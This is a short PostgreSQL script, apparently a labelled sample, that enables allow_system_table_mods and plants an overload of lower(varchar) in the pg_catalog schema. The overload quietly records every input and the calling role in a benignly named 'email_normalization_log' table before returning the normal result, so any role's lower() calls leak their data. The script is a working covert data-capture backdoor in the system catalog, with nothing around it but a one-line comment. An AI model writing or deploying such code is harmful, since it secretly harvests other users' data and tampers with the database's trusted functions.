-- class: server-settings
-- Turns on allow_system_table_mods to plant an exact-match overload of lower() in pg_catalog, which every role's lower(varchar) call then runs.
CREATE TABLE email_normalization_log (
  at timestamptz NOT NULL DEFAULT now(),
  caller name NOT NULL DEFAULT current_user,
  input text
);

SET allow_system_table_mods = on;

CREATE FUNCTION pg_catalog.lower(character varying) RETURNS text
LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  INSERT INTO public.email_normalization_log (input) VALUES ($1);
  RETURN pg_catalog.lower($1::text);
END
$$;

RESET allow_system_table_mods;
